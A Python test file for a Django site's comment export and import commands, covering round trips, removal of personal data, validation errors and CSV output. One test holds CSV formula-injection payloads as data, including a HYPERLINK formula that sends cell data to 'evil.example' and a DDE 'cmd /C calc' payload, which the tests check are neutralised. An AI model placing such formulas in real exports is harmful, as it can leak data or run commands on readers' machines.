"""Comments go out and come in again: byte for byte the same, with all that is kept of them, or a table for people."""

from __future__ import annotations

import csv
import json
import re
import stat
import tracemalloc
from datetime import UTC, datetime, time, timedelta
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.extra.django import TestCase

from articles.models import Article, Edition
from comments import moderation
from comments.management.commands import export_comments
from comments.models import (
    Comment,
    Discussion,
    LearntWord,
    Lesson,
    ModerationEvent,
    OutgoingMail,
    Revision,
)
from comments.moving import exporting, json_lines, spool
from comments.moving.exporting import guarded, write_csv, write_json
from tests.comments.factories import make_chain, make_comment, make_many
from tests.factories import make_article, make_page, make_user

pytestmark = pytest.mark.django_db(databases="__all__")

AT = datetime(2020, 2, 3, 4, 5, 6, 789, tzinfo=UTC)
HEAD = '{"format": "newsroom-comments", "version": 1}\n'


def export(folder: Path, *arguments: str, name: str = "out.jsonl") -> bytes:
    file = folder / name
    call_command("export_comments", str(file), *arguments, stdout=StringIO())
    return file.read_bytes()


def rows(data: bytes) -> list[dict[str, Any]]:
    return [json.loads(line) for line in data.decode().rstrip().split("\n")]


def comments_in(data: bytes) -> list[dict[str, Any]]:
    return [row for row in rows(data) if row.get("type") == "comment"]


def bring(folder: Path, data: bytes | str, *arguments: str) -> tuple[str, str]:
    """What the command says, and what it complains of."""
    file = folder / "in.jsonl"
    file.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)
    out, errors = StringIO(), StringIO()
    call_command("import_comments", str(file), *arguments, stdout=out, stderr=errors)
    return re.sub(" {2,}", " ", out.getvalue()), errors.getvalue()


def refusal(folder: Path, data: bytes | str, *arguments: str) -> str:
    with pytest.raises(CommandError) as refused:
        bring(folder, data, *arguments)
    return str(refused.value).removeprefix(f"{folder / 'in.jsonl'}: ")


def line(article: Article | str, name: str = "0123456789abc", **overrides: Any) -> str:
    address = article if isinstance(article, str) else article.get_absolute_url()
    told = {"type": "comment", "id": name, "article": address, "status": "published", "author_name": "Ida"}
    told |= {"created_at": "2020-02-03T04:05:06+00:00", "body": "Well said."}
    return json.dumps({key: value for key, value in (told | overrides).items() if value is not ...}) + "\n"


def forget() -> None:
    """Make the database one without comments."""
    for table in [Revision, ModerationEvent, Discussion]:
        table._base_manager.all()._raw_delete("default")
    Comment.objects.update(parent=None, root=None)
    Comment.objects.all()._raw_delete("default")
    Article.objects.update(reply_count=0)


def make_everything() -> None:
    """Discussions with one of everything that is kept of comments."""
    moderator = make_user(username="mo")
    article, page = make_article(headline="Éléphants — “и”\u2028"), make_page(slug="about", path="about")
    withdrawn, draft = make_article(status="withdrawn"), make_article(status="draft")
    first = make_comment(article, body="Hello *there*.\n\n> who?", author_url="https://ida.example/", asks=True)
    for status in Comment.Status.values:
        answer = make_comment(article, parent=first, status=status, network_hash="f" * 32)
        make_comment(article, parent=answer, kind="pingback", author_email="")
    make_chain(make_comment(page), 15)
    make_comment(withdrawn, source="wp:old.example", source_id="77")
    make_comment(draft, user=moderator, author_name="Mo of the desk")
    last = make_comment(article, held_reasons=[{"reason": "links", "points": 3, "links": ["é"]}])
    moderation.transition(last, "pending", moderator, "second_thoughts", "Ask =legal= first.")
    Comment.objects.filter(pk=last.pk).update(held_reasons=[])
    Comment.objects.filter(pk=first.pk).update(
        picked_at=AT, edited_at=AT, redacted_at=AT, answered_at=AT, closed_at=AT, kept_at=AT, closed_note="Enough.",
        created_at=AT,
    )  # fmt: skip
    Revision.objects.create(comment=first, number=1, kind="original", body="Hullo there.", created_at=AT)
    Revision.objects.create(
        comment=first, number=2, kind="redaction", body="Hello Mr Secret.", is_sealed=True, actor=moderator,
        note="A name.", decided_at=AT,
    )  # fmt: skip
    Revision.objects.create(
        comment=first, number=3, kind="edit", state="pending", body="Hi.", held_reasons=[{"reason": "links"}]
    )
    Discussion.objects.create(
        article=article, opens_at=time(8), closes_at=time(22, 30), slow_minutes=5, close_after_days=0,
        summary="They like it.", summary_by=moderator, summary_at=AT,
    )  # fmt: skip
    Discussion.objects.create(article=make_article())


# Out, in, and out again


def test_what_goes_out_and_comes_in_again_goes_out_byte_for_byte_the_same(tmp_path):
    make_everything()
    first = export(tmp_path)
    places = list(Comment.objects.order_by("article", "pk").values_list("public_id", "parent__public_id", "depth"))
    forget()
    bring(tmp_path, first)
    assert export(tmp_path) == first
    again = Comment.objects.order_by("article", "pk").values_list("public_id", "parent__public_id", "depth")
    assert list(again) == places
    assert len(moderation.reconcile(save=False)) == 0


def test_so_it_does_without_personal_data(tmp_path):
    make_everything()
    first = export(tmp_path, "--without-personal-data")
    forget()
    bring(tmp_path, first)
    assert export(tmp_path, "--without-personal-data") == first


def test_so_it_does_when_it_comes_in_by_parts(tmp_path, monkeypatch):
    monkeypatch.setattr(spool, "PART", 3)
    monkeypatch.setattr(exporting, "PART", 2)
    make_everything()
    first = export(tmp_path)
    forget()
    bring(tmp_path, first)
    assert export(tmp_path) == first


def test_coming_in_where_everything_is_changes_nothing(tmp_path):
    make_everything()
    data = export(tmp_path)
    tables = [Article, Comment, Discussion, Edition, ModerationEvent, Revision]
    before = [list(table._base_manager.order_by("pk").values()) for table in tables]
    out, errors = bring(tmp_path, data)
    assert [list(table._base_manager.order_by("pk").values()) for table in tables] == before
    assert "created" not in out
    assert errors == ""


def test_personal_data_stays_here_when_that_is_asked_for(tmp_path):
    make_everything()
    whole, bare = export(tmp_path).decode(), export(tmp_path, "--without-personal-data").decode()
    for secret in ["reader", "ffffffff", '"mo"', "=legal=", "Mr Secret", "A name."]:
        assert secret in whole.replace("What reader", "").replace("Reader ", "")
        assert secret not in bare.replace("What reader", "").replace("Reader ", "")
    assert rows(bare.encode())[0]["personal_data"] is False
    assert len(comments_in(bare.encode())) == Comment.objects.count()


def test_nothing_of_accounts_goes_out_but_their_names(tmp_path):
    user = make_user(username="mo", email="mo@paper.example", first_name="Mona")
    make_comment(make_article(), user=user)
    data = export(tmp_path).decode()
    assert '"staff": "mo"' in data
    assert user.password not in data
    assert "mo@paper.example" not in data


def test_the_order_does_not_depend_on_the_numbers_of_rows(tmp_path):
    late = make_article(published_on=datetime(2021, 1, 1).date())
    early = make_article(published_on=datetime(2020, 1, 1).date())
    make_comment(late)
    make_comment(early)
    addresses = [row["article"] for row in comments_in(export(tmp_path))]
    assert addresses == [early.get_absolute_url(), late.get_absolute_url()]


def test_a_site_without_comments_has_a_file_too(tmp_path):
    data = export(tmp_path)
    assert rows(data) == [{"format": "newsroom-comments", "version": 1, "personal_data": True}]
    assert bring(tmp_path, data) == ("There is no comment in this file.\n", "")


def test_a_line_has_what_is_kept_and_no_more(tmp_path):
    article = make_article()
    comment = make_comment(article, status="pending", body="Hello.", author_name="Ida", author_email="")
    assert rows(export(tmp_path))[1:] == [
        {"type": "discussion", "article": article.get_absolute_url(), "headline": article.headline},
        {
            "type": "comment",
            "id": comment.public_id,
            "article": article.get_absolute_url(),
            "status": "pending",
            "author_name": "Ida",
            "created_at": comment.created_at.isoformat(),
            "held_reasons": [],
            "body": "Hello.",
        },
    ]


def test_a_piece_that_has_no_address_yet_is_named_by_its_short_one(tmp_path):
    draft = make_article(status="draft")
    make_comment(draft)
    data = export(tmp_path)
    assert comments_in(data)[0]["article"] == f"/a/{draft.pk}/"
    forget()
    bring(tmp_path, data)
    assert Comment.objects.get().article == draft


def test_comments_that_came_in_from_elsewhere_are_known_again_there_and_here(tmp_path):
    article = make_article()
    ours = make_comment(article, source="wp:old.example", source_id="7")
    data = line(article, "zzzzzzzzzzzzz", source="wp:old.example", source_id="7") + line(
        article, parent="zzzzzzzzzzzzz"
    )
    out, _errors = bring(tmp_path, HEAD + data)
    assert "1 unchanged, 1 created" in out
    assert Comment.objects.get(public_id="0123456789abc").parent == ours


def test_the_memory_of_going_out_does_not_grow(monkeypatch):
    monkeypatch.setattr(exporting, "PART", 50)

    def peak() -> int:
        tracemalloc.start()
        try:
            for _number in write_json(Nowhere(), personal=True):
                pass
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    article = make_article()
    make_many(article, 100)
    peak()
    few = peak()
    make_many(article, 1900)
    assert peak() < few * 1.5


class Nowhere(StringIO):
    def write(self, text: str) -> int:
        return len(text)


def test_going_out_asks_as_often_for_many_comments_of_a_part_as_for_few():
    def queries() -> int:
        with CaptureQueriesContext(connection) as asked:
            list(write_json(Nowhere(), personal=True))
        return len(asked)

    article = make_article()
    make_many(article, 5)
    few = queries()
    make_many(article, 300)
    assert queries() == few


def test_the_description_of_the_format_names_everything_that_may_stand_in_a_line():
    described = Path(__file__).parents[2].joinpath("docs", "moving-comments.md").read_text("utf-8")
    for names in [json_lines._COMMENT, json_lines._EVENT, json_lines._REVISION, json_lines._DISCUSSION]:
        assert not [name for name in names if f"`{name}`" not in described and f'"{name}"' not in described]


# In


def test_comments_of_another_system_come_in_by_what_the_first_line_calls_it(tmp_path):
    article = make_article()
    head = HEAD.replace("}", ', "source": "isso"}')
    data = head + line(article, "17", author_email="i@example.org") + line(article, "18", parent="17")
    bring(tmp_path, data)
    assert "2 unchanged" in bring(tmp_path, data)[0]
    first, second = Comment.objects.order_by("source_id")
    assert (first.source, first.source_id, first.author_email) == ("isso", "17", "i@example.org")
    assert second.parent == first
    assert re.fullmatch("[0-9a-z]{13}", first.public_id)


def test_events_and_revisions_come_in_with_who_is_on_the_staff_here(tmp_path):
    make_user(username="mo")
    make_user(username="reader", is_staff=False)
    event = {"from": "pending", "to": "published", "reason": "approved", "created_at": "2020-02-03T04:05:06Z"}
    events = [event | {"actor": name} for name in ["mo", "reader", "nobody", "mo"]]
    _out, errors = bring(tmp_path, HEAD + line(make_article(), events=events, staff="mo"))
    assert list(ModerationEvent.objects.order_by("pk").values_list("actor__username", flat=True)) == [
        "mo",
        None,
        None,
        "mo",
    ]
    assert Comment.objects.get().user.username == "mo"
    assert "Nobody on the staff is called “nobody” here" in errors
    assert "Nobody on the staff is called “reader” here" in errors


def test_what_is_decided_about_a_discussion_here_stays(tmp_path):
    article = make_article()
    told = {"type": "discussion", "article": article.get_absolute_url(), "slow_minutes": 9}
    bring(tmp_path, HEAD + json.dumps(told))
    assert Discussion.objects.get().slow_minutes == 9
    Discussion.objects.update(slow_minutes=1)
    assert "discussion 1 unchanged" in bring(tmp_path, HEAD + json.dumps(told))[0]
    assert Discussion.objects.get().slow_minutes == 1


def test_settings_of_a_discussion_without_comments_change_the_page(tmp_path):
    article = make_article()
    told = {"type": "discussion", "article": article.get_absolute_url(), "summary": "They like it."}
    bring(tmp_path, HEAD + json.dumps(told))
    assert Article.objects.get().edition > article.edition


def test_dates_that_lie_ahead_become_today_and_are_named(tmp_path):
    ahead = "2150-01-01T00:00:00+00:00"
    _out, errors = bring(tmp_path, HEAD + line(make_article(), created_at=ahead, published_at=ahead, picked_at=ahead))
    comment = Comment.objects.get()
    assert max(comment.created_at, comment.published_at, comment.picked_at) <= timezone.now()
    assert "which lies ahead" in errors


def test_answers_that_come_before_what_they_answer_find_it(tmp_path):
    article = make_article()
    a, b, c = "aaaaaaaaaaaaa", "bbbbbbbbbbbbb", "ccccccccccccc"
    bring(
        tmp_path,
        HEAD + line(article, c, parent=b) + line(article, b, parent=a) + line(article, a, parent="ddddddddddddd"),
    )
    assert dict(Comment.objects.values_list("public_id", "parent__public_id")) == {a: None, b: a, c: b}


def test_what_matches_nothing_is_named(tmp_path):
    head = '{"type": "discussion", "article": "/nowhere/", "headline": "Lost"}\n'
    out, errors = bring(tmp_path, HEAD + head + line("/nowhere/"))
    assert out == "discussion 1 skipped\ncomment 1 skipped\n"
    assert "discussion /nowhere/: No piece of this site is found at it. (“Lost”)" in errors


def test_no_mail_goes_out_and_nothing_is_learnt(tmp_path):
    article = make_article()
    bring(tmp_path, HEAD + line(article, status="pending"))
    bring(tmp_path, HEAD + line(article))
    bring(tmp_path, HEAD + line(article, status="spam"))
    assert Comment.objects.get().status == "spam"
    assert not OutgoingMail.objects.exists()
    assert not Lesson.objects.exists()
    assert not LearntWord.objects.exists()


def test_words_are_shown_by_our_own_renderer_and_hidden_signs_go(tmp_path):
    bring(tmp_path, HEAD + line(make_article(), body="<script>x</script>\u202e *Hi*\r\n", author_name="I\u202eda"))
    comment = Comment.objects.get()
    assert comment.body_html == "<p>&lt;script&gt;x&lt;/script&gt; <em>Hi</em></p>"
    assert comment.author_name == "Ida"


def wrong(**overrides: Any) -> str:
    return line("/a/1/", **overrides)


SETTINGS = HEAD + '{"type": "discussion", "article": "/a/1/", '
WAITING = {"number": 1, "kind": "edit", "state": "pending", "body": "", "created_at": "2020-01-01T00:00:00Z"}
NO_OFFSET = "is no moment with its offset, such as 2026-11-30T18:00:00+00:00"


@pytest.mark.parametrize(
    ("data", "said"),
    [
        ("", "There is nothing in this file."),
        ("\n \n", "There is nothing in this file."),
        ("{}", "Line 1: a file of comments begins with {“format”: “newsroom-comments”, “version”: 1}."),
        ("[]", "Line 1: a file of comments begins with {“format”: “newsroom-comments”, “version”: 1}."),
        (HEAD.replace("1", "2"), "Line 1: the file is of another version; only 1 is known here."),
        (HEAD.replace("1", "true"), "Line 1: “version” is no whole number from 0 to 32767."),
        (HEAD.replace("}", ', "x": 1}'), "Line 1: has “x”, which is not known here."),
        (HEAD + "{", "Line 2: this is no JSON."),
        (HEAD + "[" * 100_000, "Line 2: this is no JSON."),
        (HEAD + "9" * 5000, "Line 2: this is no JSON."),
        (HEAD.encode() + b"\xff\xfe", "Line 2: this is no text in UTF-8."),
        (HEAD + '{"type": "vote"}', "Line 2: it is neither a “discussion” nor a “comment”."),
        (HEAD + '"comment"', "Line 2: it is neither a “discussion” nor a “comment”."),
        (HEAD + "\n" + wrong(body=...), "Line 3: lacks “body”."),
        (
            HEAD + line("/a/1/", "17"),
            "Line 2: “id” is no name of a comment here; say in the first line which “source” “17” is of.",
        ),
        (HEAD + wrong(votes=3), "Line 2: has “votes”, which is not known here."),
        (HEAD + wrong(status="hidden"), "Line 2: “status” is none of pending, published, spam, rejected, withdrawn."),
        (HEAD + wrong(kind="like"), "Line 2: “kind” is none of reply, pingback, trackback."),
        (HEAD + wrong(body=7), "Line 2: “body” is no text."),
        (HEAD + wrong(body="a\0b"), "Line 2: “body” holds a character that is none."),
        (HEAD + wrong(author_name="\ud800"), "Line 2: “author_name” holds a character that is none."),
        (HEAD + wrong(asks=1), "Line 2: “asks” is neither true nor false."),
        (HEAD + wrong(created_at="2020-02-03T04:05:06"), f"Line 2: “created_at” {NO_OFFSET}."),
        (HEAD + wrong(created_at="soon"), "Line 2: “created_at” is no moment, such as 2026-11-30T18:00:00+00:00."),
        (HEAD + wrong(created_at="0001-01-01T00:00:00+23:00"), f"Line 2: “created_at” {NO_OFFSET}."),
        (HEAD + wrong(closed_note="x" * 301), "Line 2: “closed_note” has more than 300 characters."),
        (HEAD + wrong(source="wp:x"), "Line 2: a comment has both “source” and “source_id”, or neither."),
        (HEAD + wrong(source="", source_id="7"), "Line 2: “source” is empty."),
        (HEAD + wrong(held_reasons=["links"]), "Line 2: “held_reasons” has an entry without “reason”."),
        (
            HEAD + wrong(held_reasons=[{"reason": "x", "y": "\0"}]),
            "Line 2: “held_reasons” holds a character that is none.",
        ),
        (HEAD + wrong(events={}), "Line 2: “events” is no list."),
        (HEAD + wrong(events=[1]), "Line 2: “events” is no object."),
        (HEAD + wrong(events=[{"from": "x"}]), "Line 2: “events” lacks “to”."),
        (
            HEAD + wrong(revisions=[WAITING, WAITING]),
            "Line 2: “revisions” have a number twice, or more than one of them waits.",
        ),
        (SETTINGS + '"opens_at": "09:00"}', "Line 2: a discussion has both “opens_at” and “closes_at”, or neither."),
        (
            SETTINGS + '"opens_at": "09:00", "closes_at": "25:00"}',
            "Line 2: “closes_at” is no time of day, such as 09:30:00.",
        ),
        (SETTINGS + '"slow_minutes": 1441}', "Line 2: “slow_minutes” is no whole number from 0 to 1440."),
        (SETTINGS + '"slow_minutes": true}', "Line 2: “slow_minutes” is no whole number from 0 to 1440."),
    ],
)
def test_a_file_that_holds_what_belongs_in_none_is_refused_by_the_line_and_nothing_comes_in(tmp_path, data, said):
    article = make_article()
    assert refusal(tmp_path, data, "--format", "json") == said
    assert not Comment.objects.filter(article=article).exists()


def test_a_line_without_end_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(json_lines, "LONGEST", 1_000_000)
    assert refusal(tmp_path, HEAD + line("/a/1/", body="x" * 1_000_000)) == "Line 2: it is longer than 1 MB."


def test_what_comes_before_a_wrong_line_does_not_come_in(tmp_path):
    article = make_article()
    assert "Line 3" in refusal(tmp_path, HEAD + line(article) + "{")
    assert not Comment.objects.exists()


class WildValues(TestCase):
    json_values = st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
        max_leaves=5,
    )

    @given(st.sampled_from(sorted(json_lines._COMMENT)), json_values)
    @settings(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
    def test_whatever_stands_in_a_comment_it_comes_in_or_is_refused_in_a_sentence(self, name, value):
        told = json.loads(line("/a/1/")) | {name: value}
        try:
            records = [*json_lines.Reader().read(BytesIO((HEAD + json.dumps(told)).encode()))]
            said = "Line 2: it came in"
        except spool.NotReadable as refused:
            records, said = [None], str(refused)
        assert len(records) == 1
        assert said.startswith("Line 2: ")
        assert "\n" not in said


# A table


def table(folder: Path, *arguments: str) -> list[dict[str, str]]:
    text = export(folder, "--format", "csv", *arguments, name="out.csv").decode("utf-8-sig")
    return list(csv.DictReader(StringIO(text, newline="")))


def test_a_table_has_a_line_for_each_comment(tmp_path):
    article = make_article(headline="The dam")
    first = make_comment(article, body='One,\n"two"', author_name="Ida", author_email="i@example.org")
    make_comment(article, parent=first, status="spam")
    one, two = table(tmp_path)
    assert (one["article"], one["headline"], one["id"]) == (article.get_absolute_url(), "The dam", first.public_id)
    assert (one["body"], one["author_name"], one["author_email"]) == ('One,\n"two"', "Ida", "i@example.org")
    assert (two["parent"], two["status"]) == (first.public_id, "spam")
    assert one["created_at"] == first.created_at.isoformat()


@pytest.mark.parametrize(
    "formula",
    ['=HYPERLINK("http://evil.example/"&A1)', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
     "  =1", "＝1", "＋1", "－1", "＠SUM"],
)  # fmt: skip
def test_no_cell_of_a_table_is_one_that_a_spreadsheet_carries_out(tmp_path, formula):
    comment = make_comment(make_article(headline=formula))
    Comment.objects.filter(pk=comment.pk).update(
        body=formula, author_name=formula, author_email=formula, author_url=formula
    )
    (row,) = table(tmp_path)
    for name in ["headline", "body", "author_name", "author_email", "author_url"]:
        assert row[name] == f"'{formula}"


def test_what_is_no_formula_stays_as_it_is():
    for text in ["", "a=b", "1-2", "'quoted", "é", "#3", "…"]:
        assert guarded(text) == text
    assert guarded(None) == ""


def test_a_table_without_personal_data_has_no_column_for_it(tmp_path):
    make_comment(make_article())
    (row,) = table(tmp_path, "--without-personal-data")
    assert "author_email" not in row
    assert "example.org" not in str(row)


def test_a_table_begins_with_the_mark_by_which_spreadsheets_know_utf8(tmp_path):
    assert export(tmp_path, "--format", "csv").startswith(b"\xef\xbb\xbfarticle,headline,")


# The command


def test_the_file_is_for_its_owner_alone_and_says_how_many_it_holds(tmp_path):
    make_comment(make_article())
    out, file = StringIO(), tmp_path / "out.jsonl"
    call_command("export_comments", str(file), stdout=out)
    assert out.getvalue() == "1 comment written.\n"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600


@pytest.mark.parametrize("failure", [KeyboardInterrupt, OSError(28, "No space left on device")])
def test_what_was_there_stays_when_it_is_stopped_or_the_disk_is_full(tmp_path, monkeypatch, failure):
    def stopping(out, *, personal):
        out.write("half")
        yield 1
        raise failure

    monkeypatch.setattr(export_comments, "write_json", stopping)
    (tmp_path / "out.jsonl").write_text("before")
    with pytest.raises(CommandError) as stopped:
        export(tmp_path)
    assert "Stopped before the end" in str(stopped.value) or "No space left on device" in str(stopped.value)
    assert [file.read_text() for file in tmp_path.iterdir()] == ["before"]


@pytest.mark.parametrize("place", ["no/such/folder.jsonl", ""])
def test_a_place_that_cannot_be_written_is_named_in_a_sentence(tmp_path, place):
    with pytest.raises(CommandError) as refused:
        call_command("export_comments", str(tmp_path / place), stdout=StringIO())
    assert "\n" not in str(refused.value)


def test_the_site_is_not_kept_waiting_while_comments_go_out():
    make_comment(make_article())
    with CaptureQueriesContext(connection) as asked:
        list(write_json(Nowhere(), personal=True))
        list(write_csv(Nowhere(), personal=True))
    assert all(query["sql"].lstrip().startswith(("SELECT", "DECLARE", "FETCH", "CLOSE")) for query in asked)


def test_an_old_moment_is_kept_to_the_microsecond(tmp_path):
    comment = make_comment(make_article())
    moment = timezone.now() - timedelta(days=400)
    Comment.objects.filter(pk=comment.pk).update(created_at=moment)
    data = export(tmp_path)
    forget()
    bring(tmp_path, data)
    assert Comment.objects.get().created_at == moment
